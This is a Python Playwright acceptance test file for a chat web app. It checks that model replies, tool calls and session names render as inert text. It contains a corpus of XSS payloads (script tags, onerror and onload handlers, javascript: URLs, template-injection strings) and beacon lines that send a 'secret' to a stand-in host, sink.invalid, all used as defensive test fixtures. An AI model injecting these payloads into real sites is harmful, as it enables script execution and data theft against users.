"""What a model or a tool says is never more than words: no script, no request to elsewhere."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from streaming.providers.scripted import Reply
from streaming.providers.scripted_parts import Call, Say, Think
from tests.acceptance.conftest import MakeModel
from tests.support.browser import Guard, browser, signed_in
from tests.support.common_server import no_session_stays, server
from tests.support.server import ServerProcess
from tests.support.session import SessionClient

__all__ = ["browser", "no_session_stays", "server"]

RUN = "window.__owned=1;alert(1)"
SINK = "http://sink.invalid/?q=secret"
HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>x</button></form>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video poster={SINK}><source onerror={RUN}></video>",
    f"<img srcset='{SINK} 1x'>",
    f"<link rel=stylesheet href={SINK}>",
    f"<link rel=icon href={SINK}>",
    f"<style>body{{background:url({SINK})}}</style>",
    f"<meta http-equiv=refresh content='0;url={SINK}'>",
    f"<base href={SINK}>",
    f"<a href='javascript:{RUN}' ping={SINK}>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<x onpointerenter={RUN} style=position:fixed;inset:0>x</x>",
    f"<body onload={RUN}>",
    f"</textarea></title></script><script>{RUN}</script>",
    f"<!--><script>{RUN}</script-->",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {% debug %}",
]
MARKDOWN = [
    f"![x]({SINK})",
    f"![x][ref]\n\n[ref]: {SINK}",
    f"[x](javascript:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    "[x](file:///etc/passwd)",
    f"<javascript:{RUN}>",
    f"[<img src=x onerror={RUN}>](https://h.example)",
    f'[x](https://h.example/"onmouseover={RUN}//)',
    f"`<script>{RUN}</script>`",
    f"**<img src=x onerror={RUN}>**",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"# <script>{RUN}</script>",
]
WRAPPERS = ["{}", "> {}", "**{}**", "- {}", "`{}", "\u202e{}", "{}\x1b]8;;javascript:x\x07", "a{}b"]
CORPUS = [wrapper.replace("{}", text) for wrapper, text in itertools.product(WRAPPERS, HTML + MARKDOWN)]

FACTS = """() => {
    const all = (selector) => [...document.querySelectorAll(selector)];
    return {
        owned: window.__owned === undefined,
        elements: all("#transcript *, #sessions *").map((one) => one.localName),
        links: all("#transcript a").map((one) => [one.protocol, one.rel, one.target]),
        handlers: all("*").flatMap((one) => one.getAttributeNames())
            .filter((name) => name.startsWith("on") || name === "ping" || name === "srcset"),
    };
}"""


@pytest.fixture
def protocol() -> str:
    return "chat_completions"


@pytest.fixture(scope="module")
def context(browser: Browser, server: ServerProcess) -> Iterator[BrowserContext]:
    opened = signed_in(browser, server)
    yield opened
    opened.close()


@pytest.fixture
def guard(server: ServerProcess) -> Guard:
    guard = Guard(server.url.removeprefix("http://"))
    # Nothing of ours is ever refused by the policy: a refusal here would mean that something was tried.
    guard.expected = ()
    return guard


def open_page(context: BrowserContext, guard: Guard, session: SessionClient) -> Page:
    page = context.new_page()
    guard.watch(page)
    page.goto(f"{session.server.url}/sessions/{session.id}/")
    expect(page.locator("#connection")).to_have_attribute("data-kind", "live")
    return page


def test_there_are_many_payloads() -> None:
    assert len(set(CORPUS)) >= 200


def test_hostile_words_stay_words_live_and_afterwards(
    context: BrowserContext, guard: Guard, model: MakeModel
) -> None:
    everything = "\n\n".join(CORPUS)
    code = f"print({everything!r})\nraise ValueError({everything[:2000]!r})"
    made = model(
        # Cut so that tags, escapes and fences fall apart between deltas.
        Reply(Think(everything, 97), Say(everything, 61), Call("python", {"code": code}, fragments=97)),
        Reply(Call("no_such_tool<script>", json.dumps({"x": everything[:3000]}), id="call_2")),
        Reply(Say("THE END")),
    )
    page = open_page(context, guard, made.session)
    page.fill("#composer-text", everything[:5000])
    page.click("#send")
    expect(page.locator("#history")).to_contain_text("THE END")
    check(page, guard)
    page.reload()
    expect(page.locator("#history")).to_contain_text("THE END")
    page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true; })")
    check(page, guard)
    page.close()


def check(page: Page, guard: Guard) -> None:
    facts = page.evaluate(FACTS)
    assert facts["owned"]
    assert facts["handlers"] == []
    wanted = {
        "script",
        "iframe",
        "object",
        "embed",
        "style",
        "link",
        "base",
        "meta",
        "form",
        "svg",
        "math",
        "video",
    }
    assert wanted.isdisjoint(facts["elements"])
    assert facts["links"], "the corpus has links that are allowed"
    for protocol, rel, target in facts["links"]:
        assert protocol in ("http:", "https:")
        assert {"noopener", "noreferrer", "nofollow"} <= set(rel.split())
        assert target == "_blank"
    assert guard.wrong == []


def test_names_of_sessions_are_words_everywhere(
    server: ServerProcess, context: BrowserContext, guard: Guard
) -> None:
    session = SessionClient.create(server, name=HTML[1], instructions=HTML[0])
    page = open_page(context, guard, session)
    expect(page.locator("#session-name")).to_have_text(HTML[1])
    expect(page.locator("#sessions li").filter(has_text=HTML[1])).to_have_count(1)
    page.click("#settings-open")
    page.goto(f"{server.url}/admin/sessions_app/session/{session.id}/change/")
    expect(page.locator("#content")).to_contain_text(HTML[1])
    page.goto(f"{server.url}/admin/sessions_app/session/?q=onerror")
    expect(page.locator("#result_list")).to_contain_text(HTML[1])
    assert page.evaluate("window.__owned === undefined")
    assert guard.wrong == []
    page.close()


def test_no_link_or_message_makes_the_page_send_anything(
    server: ServerProcess, context: BrowserContext, guard: Guard
) -> None:
    session = SessionClient.create(server)
    page = context.new_page()
    guard.watch(page)
    posts: list[str] = []
    page.on("request", lambda request: posts.extend([request.url] if request.method != "GET" else []))
    page.goto(f"{server.url}/sessions/{session.id}/?prompt=x&text=x&submit=1#send=1")
    expect(page.locator("#connection")).to_have_attribute("data-kind", "live")
    page.evaluate("window.postMessage({type: 'input', text: 'x', submit: true}, '*')")
    page.reload()
    expect(page.locator("#connection")).to_have_attribute("data-kind", "live")
    assert posts == []
    assert page.input_value("#composer-text") == ""
    page.close()
